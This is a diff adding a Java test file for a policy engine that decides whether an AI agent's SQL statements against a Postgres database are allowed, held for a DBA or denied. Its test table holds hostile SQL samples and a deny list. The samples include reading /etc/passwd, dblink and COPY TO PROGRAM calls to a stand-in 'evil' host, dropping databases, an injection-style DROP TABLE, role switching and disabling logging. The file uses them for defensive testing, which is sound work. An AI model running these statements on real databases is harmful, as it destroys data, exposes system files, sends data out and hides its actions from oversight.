@@ -1,0 +1,179 @@
+package dev.warden.sql.postgres;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.warden.core.identity.Identity;
+import dev.warden.core.policy.Decision;
+import dev.warden.core.policy.DeclarativePolicyEngine;
+import dev.warden.core.policy.Limits;
+import dev.warden.core.policy.Policy;
+import dev.warden.core.policy.Policy.Grant;
+import dev.warden.core.policy.Policy.Rule;
+import dev.warden.core.sql.StatementClass;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.stream.Stream;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Parsed statements against the demo's sample agent policy (DESIGN.md), table-driven: the decision
+ * and the rule that made it. Default deny; deny beats hold beats allow, per part.
+ */
+class PolicyDecisionTest {
+  static final PostgresAnalyzer ANALYZER = new PostgresAnalyzer(PgQuery.load());
+
+  static Rule rule(
+      String id,
+      Set<StatementClass> classes,
+      Set<String> verbs,
+      List<String> objects,
+      List<String> functions) {
+    return new Rule(id, classes, verbs, objects, functions, null, Set.of(), null);
+  }
+
+  static final Policy SAMPLE =
+      new Policy(
+          List.of(
+              new Grant(
+                  "agent-on-shop",
+                  Set.of("agent"),
+                  Set.of("shop"),
+                  List.of(
+                      rule(
+                          "agent.read-write",
+                          Set.of(StatementClass.READ, StatementClass.WRITE),
+                          Set.of("SELECT", "INSERT", "UPDATE"),
+                          List.of("public.*", "billing.*"),
+                          List.of()),
+                      rule(
+                          "agent.transactions",
+                          Set.of(StatementClass.TRANSACTION),
+                          Set.of(),
+                          List.of(),
+                          List.of())),
+                  List.of(
+                      new Rule(
+                          "agent.hold-delete-ddl",
+                          Set.of(StatementClass.DDL),
+                          Set.of(),
+                          List.of(),
+                          List.of(),
+                          "schema changes need a DBA's approval",
+                          Set.of("dba"),
+                          Duration.ofMinutes(15)),
+                      new Rule(
+                          "agent.hold-delete",
+                          Set.of(),
+                          Set.of("DELETE"),
+                          List.of(),
+                          List.of(),
+                          null,
+                          Set.of("dba"),
+                          Duration.ofMinutes(15))),
+                  List.of(
+                      rule(
+                          "deny.destructive",
+                          Set.of(),
+                          Set.of(
+                              "DROP DATABASE",
+                              "DROP SCHEMA",
+                              "TRUNCATE",
+                              "ALTER SYSTEM",
+                              "GRANT*",
+                              "REVOKE*",
+                              "CREATE EXTENSION"),
+                          List.of(),
+                          List.of()),
+                      rule(
+                          "deny.role-switch",
+                          Set.of(StatementClass.DCL),
+                          Set.of(),
+                          List.of(),
+                          List.of()),
+                      rule(
+                          "deny.server-files",
+                          Set.of(),
+                          Set.of(),
+                          List.of(),
+                          List.of(
+                              "pg_read_file",
+                              "pg_read_binary_file",
+                              "pg_ls_dir",
+                              "lo_import",
+                              "lo_export",
+                              "dblink*")),
+                      rule("deny.internal", Set.of(), Set.of(), List.of("internal.*"), List.of())),
+                  new Limits(1000, 0))));
+
+  static final DeclarativePolicyEngine ENGINE = new DeclarativePolicyEngine(SAMPLE);
+  static final Identity AGENT =
+      new Identity("agent", "https://idp", Set.of("code-assistant"), Map.of());
+
+  static Stream<Arguments> cases() {
+    return Stream.of(
+        row("SELECT * FROM public.customers", "Allow", "agent.read-write"),
+        row(
+            "SELECT * FROM public.orders o JOIN billing.invoices i ON i.customer_id = o.customer_id",
+            "Allow",
+            "agent.read-write"),
+        row("INSERT INTO public.orders (id) VALUES (1)", "Allow", "agent.read-write"),
+        row("BEGIN; UPDATE public.orders SET status = 'x'; COMMIT", "Allow", "agent.transactions"),
+        row("SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
+        row(
+            "SELECT * FROM public.customers WHERE id IN (SELECT id FROM internal.api_keys)",
+            "Deny",
+            "deny.internal"),
+        row("WITH k AS (SELECT * FROM internal.api_keys) SELECT * FROM k", "Deny", "deny.internal"),
+        row("DELETE FROM public.orders", "Hold", "agent.hold-delete"),
+        row(
+            "WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT * FROM gone",
+            "Hold",
+            "agent.hold-delete"),
+        row("EXPLAIN ANALYZE DELETE FROM public.orders", "Hold", "agent.hold-delete"),
+        row("EXPLAIN DELETE FROM public.orders", "Deny", "default-deny"),
+        row(
+            "WITH n AS (INSERT INTO public.orders (id) VALUES (2) RETURNING id) SELECT * FROM n",
+            "Allow",
+            "agent.read-write"),
+        row("CREATE TABLE public.t (id int)", "Hold", "agent.hold-delete-ddl"),
+        row("DROP SCHEMA billing CASCADE", "Deny", "deny.destructive"),
+        row("TRUNCATE public.orders", "Deny", "deny.destructive"),
+        row("ALTER SYSTEM SET log_statement = 'none'", "Deny", "deny.destructive"),
+        row("GRANT SELECT ON public.customers TO PUBLIC", "Deny", "deny.destructive"),
+        row("SET ROLE postgres", "Deny", "deny.role-switch"),
+        row("SELECT pg_read_file('/etc/passwd')", "Deny", "deny.server-files"),
+        row("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "Deny", "deny.server-files"),
+        row("ROLLBACK; DROP DATABASE shop", "Deny", "deny.destructive"),
+        row("SELECT 1; SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
+        row("SELECT 'a\\'; DROP TABLE public.customers; --'", "Hold", "agent.hold-delete-ddl"),
+        row("SELECT * FROM customers", "Deny", "default-deny"),
+        row("SELEC 1", "Deny", "default-deny"),
+        row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "default-deny"),
+        row("DO $$ BEGIN DELETE FROM public.orders; END $$", "Deny", "default-deny"));
+  }
+
+  static Arguments row(String sql, String decision, String rule) {
+    return Arguments.of(sql, decision, rule);
+  }
+
+  @ParameterizedTest(name = "{0} -> {1} by {2}")
+  @MethodSource("cases")
+  void agentOnShop(String sql, String decision, String rule) {
+    Decision d = ENGINE.decide(AGENT, Set.of("agent"), "shop", ANALYZER.analyze(sql));
+    assertThat(d.getClass().getSimpleName()).as(sql + " -> " + d).isEqualTo(decision);
+    assertThat(d.rule()).as(sql + " -> " + d).isEqualTo(rule);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("cases")
+  void nothingIsAllowedWithoutAGrant(String sql, String ignoredDecision, String ignoredRule) {
+    assertThat(ENGINE.decide(AGENT, Set.of("someone-else"), "shop", ANALYZER.analyze(sql)))
+        .isInstanceOf(Decision.Deny.class);
+    assertThat(ENGINE.decide(AGENT, Set.of("agent"), "other-connection", ANALYZER.analyze(sql)))
+        .isInstanceOf(Decision.Deny.class);
+  }
+}
